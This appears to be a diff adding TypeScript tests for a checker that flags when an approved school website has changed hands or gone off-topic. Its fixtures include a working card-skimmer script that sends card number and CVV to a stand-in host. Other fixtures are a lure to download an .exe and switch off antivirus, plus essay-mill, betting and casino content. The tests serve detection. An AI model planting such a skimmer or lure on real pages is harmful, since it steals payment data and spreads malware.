@@ -516,3 +516,70 @@ it("offers no new address that bears a mark, or where another topic stands under
   expect(judgeAnswer(page("Path Finder", lessons), before, address, to)).toBe("moved");
   expect(judgeAnswer(page("Path Finder", `${lessons}${fraud}`), before, address, to)).not.toBe("moved");
 });
+
+describe("a page about something else, under the name that was approved", () => {
+  const before = toPagePicture(address, address, page("Path Finder", lessons), "2026-11-01");
+  const shows = (body: string, head = "") =>
+    judgeAnswer(
+      readPage(`${head}<title>Path Finder: more</title><h1>Path Finder</h1>${body}`, address),
+      before,
+    );
+  const talk =
+    "<p>Meet our students tonight, talk to whom you like, and come back tomorrow for more of it.</p>";
+
+  it("has changed hands where it labels itself as unfit for children, and is asked about without that", () => {
+    expect(shows(talk)).toBe("looks-different");
+    expect(shows(talk, '<meta name="rating" content="adult">')).toBe("changed-hands");
+  });
+
+  it("has changed hands where a program comes with a word on antivirus, and is asked about with one of the two", () => {
+    const program = '<a href="https://files.there.club/Solved_Setup.exe">Solved examinations</a>';
+    const word = "<p>If your antivirus shows a warning, switch it off: it is mistaken.</p>";
+    expect(shows(talk + program)).toBe("looks-different");
+    expect(shows(talk + word)).toBe("looks-different");
+    expect(shows(talk + program + word)).toBe("changed-hands");
+  });
+
+  it("has changed hands where a link leads to the offer of its name, and not where one leads to old copies of it", () => {
+    const link = (to: string) => `<a href="https://${to}/path-finder.org">Secure it</a>`;
+    expect(shows(talk + link("market.there.club/buy"))).toBe("changed-hands");
+    expect(shows(talk + link("market.there.club/offer?name="))).toBe("looks-different");
+    expect(shows(talk + link("archive.there.club/web/2024/https:/"))).toBe("looks-different");
+  });
+
+  it("has changed hands where papers are written for others, and is asked about where a tutor reads them", () => {
+    const offer = (
+      how: string,
+    ) => `<h2>Study help for students</h2><p>${how} Prices per page, confidential, with revisions
+      before your deadline.</p><button>Order now</button>`;
+    expect(shows(offer("A verified expert takes your assignment off your plate."))).toBe("changed-hands");
+    expect(shows(offer("A tutor reads your assignment with you."))).toBe("looks-different");
+  });
+});
+
+it("a page as it was is asked about where tips for bets stand beside links to strangers, and not beside a school's", () => {
+  const menu = "<a href=/a>Courses</a><a href=/b>Bursary</a><a href=/c>Open evening</a>";
+  const before = toPagePicture(address, address, page("Path Finder", menu + lessons), "2026-11-01");
+  const box = (to: string) =>
+    `<p>Football predictions and correct score tips: join <a href="https://${to}/">Tipsters</a></p>`;
+  expect(judgeAnswer(page("Path Finder", menu + lessons + box("tipsters.club")), before)).toBe("off-topic");
+  expect(judgeAnswer(page("Path Finder", menu + lessons + box("maths.edu")), before)).toBe("ok");
+});
+
+it("a page as it was is asked about where a script sends on what is typed into its form for cards", () => {
+  const form = "<form action=/give><input name=cc id=cc><input name=cvv id=cvv></form>";
+  const skim = (to: string) =>
+    `<script>setInterval(()=>{const d=cc.value+cvv.value;new Image().src="https://${to}/g?"+btoa(d)},900)</script>`;
+  const give = (script: string) => page("Path Finder: give", form + lessons + script);
+  const before = toPagePicture(address, address, give(""), "2026-11-01");
+  expect(judgeAnswer(give(""), before)).toBe("ok");
+  expect(judgeAnswer(give(skim("metrics.there.club")), before)).toBe("off-topic");
+  expect(judgeAnswer(give(skim("pay.path-finder.org")), before)).toBe("ok");
+});
+
+it("a school that never spoke of such things is asked about where it links to its first casino", () => {
+  const menu = "<a href=/a>Courses</a><a href=/b>Bursary</a><a href=/c>Open evening</a>";
+  const before = toPagePicture(address, address, page("Path Finder", menu + lessons), "2026-11-01");
+  const now = `${menu}${lessons}<p>Camp is in June; the letter follows.</p><a href="https://gold-casino.net/?a=7">Play</a>`;
+  expect(judgeAnswer(page("Path Finder", now), before)).toBe("off-topic");
+});
